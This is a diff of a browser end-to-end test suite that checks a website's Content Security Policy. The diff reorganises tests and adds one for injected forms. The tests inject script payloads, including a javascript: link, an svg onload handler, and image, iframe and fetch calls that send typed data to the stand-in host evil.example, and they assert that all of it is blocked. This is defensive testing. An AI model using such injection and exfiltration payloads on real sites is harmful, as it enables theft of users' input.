@@ -1,34 +1,14 @@
 import { pagePaths } from '@/routing/pages';
 import { pageName, wordsFor } from '@/words/words';
-import { expect, holdBack, started, test } from '../site';
+import { expect, test } from '../site';
 
-const { contact, services } = wordsFor('en').pages;
+const { services } = wordsFor('en').pages;
 
 test.afterEach(({ trouble }) => {
   // The browser reports what the policy has stopped, and nothing else may stand on the console.
   const expected =
     /^Failed to load resource|violates the following|Content Security Policy|Trusted\w+' assignment/;
   trouble.console = trouble.console.filter((line) => !expected.test(line));
-});
-
-test('a form whose script does not come says whom to call, until it comes, and nothing moves', async ({
-  page,
-}) => {
-  await page.emulateMedia({ reducedMotion: 'reduce' });
-  const release = await holdBack(page, /\.js$/);
-  await page.goto(pagePaths.contact, { waitUntil: 'commit' });
-  const hint = page.getByText(contact.form.late);
-  await expect(hint).toBeHidden();
-  // CSS shows it after eight seconds, which the test does not wait for.
-  await hint.evaluate((element) => {
-    for (const animation of element.getAnimations()) animation.finish();
-  });
-  await expect(hint).toBeVisible();
-  const before = await page.locator('form').boundingBox();
-  release();
-  await started(page);
-  await expect(hint).toBeHidden();
-  expect(await page.locator('form').boundingBox()).toEqual(before);
 });
 
 test('what is injected as a page is served, or while it is open, does not run, and sends nothing', async ({
@@ -53,7 +33,7 @@ test('what is injected as a page is served, or while it is open, does not run, a
   const refused = await page.evaluate(async (evil) => {
     // In a timer, since the policy does not apply to what a debugger evaluates.
     await new Promise((resolve) => setTimeout(resolve));
-    const add = <Name extends keyof HTMLElementTagNameMap>(name: Name, attributes: object) => {
+    const add = (name: string, attributes: object) => {
       const element = Object.assign(document.createElement(name), attributes);
       document.body.append(element);
       return element;
@@ -61,8 +41,6 @@ test('what is injected as a page is served, or while it is open, does not run, a
     add('a', { href: `javascript:${evil}` }).click();
     add('iframe', { src: 'https://evil.example/' });
     add('img', { src: 'https://evil.example/?what=was+typed' });
-    // To this host neither: what is typed would stand in the address.
-    add('form', { action: '/contact' }).submit();
     fetch('https://evil.example/', { method: 'POST', body: 'typed' }).catch(() => undefined);
     return [
       () => add('p', { innerHTML: `<svg onload="${evil}">` }),
@@ -85,10 +63,21 @@ test('what is injected as a page is served, or while it is open, does not run, a
 
   expect(await page.evaluate(() => 'evil' in window)).toBe(false);
   await expect.poll(() => stopped).toEqual(trouble.hosts);
-  expect(trouble.hosts.splice(0).length).toBeGreaterThan(4);
+  trouble.hosts = [];
   // The page goes on working.
   await expect(page.getByRole('heading', { level: 1 })).toHaveText(services.header.title);
   const fees = page.getByRole('banner').getByRole('link', { name: pageName('fees', 'en') });
   await fees.filter({ visible: true }).click();
   await expect(page).toHaveURL(pagePaths.fees);
+});
+
+test('a form that is injected sends nothing, not to this host either', async ({ page }) => {
+  await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
+  const told = page.waitForEvent('console', (message) => /form-action/.test(message.text()));
+  await page.evaluate(() => {
+    const form = document.createElement('form');
+    document.body.append(form);
+    form.submit();
+  });
+  await told;
 });
